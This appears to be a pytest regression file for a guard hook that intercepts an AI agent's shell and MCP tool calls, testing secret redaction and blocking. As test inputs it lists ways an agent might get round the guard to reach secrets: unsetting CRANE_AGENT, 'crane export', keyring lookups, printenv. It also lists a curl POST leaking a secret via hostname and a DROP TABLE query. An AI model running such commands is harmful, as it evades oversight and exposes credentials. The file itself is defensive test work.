"""Regressions for a security review of the guard runtime: leaks at clip boundaries and through
case changes, agents reaching secrets through crane itself, and an honest sticky window."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from crane.guard.model import Classification, Finding
from crane.guard.rules.config import GuardConfig
from crane.guard.run.decide import decide

LAUNCHER = Path(__file__).resolve().parents[2] / "launcher"
SECRET = "Zq9Xk7Wv3Mp8Qr2Ty6Nb4Lc"


def hook(tmp_path: Path, command: str, **env: str) -> tuple[int, str, list[dict[str, object]]]:
    payload = json.dumps({"session_id": "s", "cwd": str(tmp_path), "hook_event_name": "PreToolUse",
                          "tool_name": "Bash", "tool_input": {"command": command}, "tool_use_id": "t"})
    state = tmp_path / "state"
    full_env = {**os.environ, "PYTHONPATH": str(LAUNCHER), "CRANE_STATE_DIR": str(state), "CRANE_RUN_ID": "r",
                "CRANE_ENV": "dev", "CRANE_INJECTED": "API_KEY", "API_KEY": SECRET, **env}
    proc = subprocess.run([sys.executable, "-c", "from crane.guard.run.hook import main; main()"],
                          input=payload.encode(),
                          capture_output=True, env=full_env, timeout=30, check=False)
    audit = state / "audit.jsonl"
    records = [json.loads(line) for line in audit.read_text().splitlines()] if audit.exists() else []
    return proc.returncode, proc.stderr.decode(), records


def leaked(text: str) -> bool:
    # Any 6-character piece of the secret, in any case, counts as a leak.
    low = text.lower()
    return any(SECRET[i:i + 6].lower() in low for i in range(len(SECRET) - 5))


@pytest.mark.parametrize("pad", [250, 270, 280, 285, 290, 3960, 3980, 3990])
def test_a_secret_cut_by_clipping_is_still_redacted(tmp_path: Path, pad: int) -> None:
    command = f"npx wrangler deploy --env production --var X:{'b' * pad}{SECRET}"
    code, err, records = hook(tmp_path, command)
    assert code == 2
    assert not leaked(err), err
    assert not leaked(json.dumps(records))


def test_a_secret_whose_case_was_changed_is_still_redacted(tmp_path: Path) -> None:
    code, err, records = hook(tmp_path, f"curl -X POST -d x=1 https://{SECRET}.example.com/hook --env production")
    assert not leaked(err) and not leaked(json.dumps(records)), (err, records)


@pytest.mark.parametrize("command", [
    "crane export --venture demo --env prod",
    "env -u CRANE_AGENT crane export -v demo",
    "CRANE_AGENT=0 crane run --nested -v demo -- printenv",
    "secret-tool lookup service crane",
])
def test_a_staging_agent_cannot_fetch_secrets_through_crane_or_the_keyring(tmp_path: Path, command: str) -> None:
    code, err, _ = hook(tmp_path, command)
    assert code == 2 and "NOT executed" in err


@pytest.mark.parametrize("command", ["crane preflight -v demo", "crane ventures", "crane --help"])
def test_crane_reads_stay_allowed(tmp_path: Path, command: str) -> None:
    code, err, _ = hook(tmp_path, command)
    assert code == 0 and err == ""


def _write() -> Classification:
    f = Finding("external_write", "staging", "wrangler.r2.object.put", "wrangler", "wrangler r2 object put b/k")
    return Classification("external_write", "staging", "wrangler.r2.object.put", (f,))


def test_sticky_interception_states_its_window() -> None:
    config = GuardConfig(dry_run_scope=("wrangler.r2.object.put",), sticky_ttl_seconds=1800)
    reason = decide(_write(), config, sticky_active=False).reason
    assert "for at least the next 30 min" in reason


def test_a_whole_dry_run_promises_the_whole_run() -> None:
    reason = decide(_write(), GuardConfig(dry_run=True), sticky_active=False).reason
    assert "intercepted too (local files are not)" in reason


def test_an_mcp_query_tool_is_a_write_in_a_dry_run() -> None:
    from crane.guard.see.classify import classify

    c = classify("mcp__cf__d1_query", {"sql": "DROP TABLE users"}, cwd="/", config=GuardConfig(), environ={})
    assert c.kind == "external_write"
    assert decide(c, GuardConfig(dry_run=True), sticky_active=False).decision == "intercepted"


@pytest.mark.parametrize("tool", ["bash", "BASH", "Bash "])
def test_tool_name_variants_are_guarded_like_bash(tmp_path: Path, tool: str) -> None:
    payload = json.dumps({"session_id": "s", "cwd": str(tmp_path), "hook_event_name": "PreToolUse",
                          "tool_name": tool, "tool_input": {"command": "npx wrangler deploy --env production"},
                          "tool_use_id": "t"})
    env = {**os.environ, "PYTHONPATH": str(LAUNCHER), "CRANE_STATE_DIR": str(tmp_path / "s"), "CRANE_RUN_ID": "r",
           "CRANE_ENV": "dev"}
    proc = subprocess.run([sys.executable, "-c", "from crane.guard.run.hook import main; main()"],
                          input=payload.encode(),
                          capture_output=True, env=env, timeout=30, check=False)
    assert proc.returncode == 2 and b"NOT executed" in proc.stderr
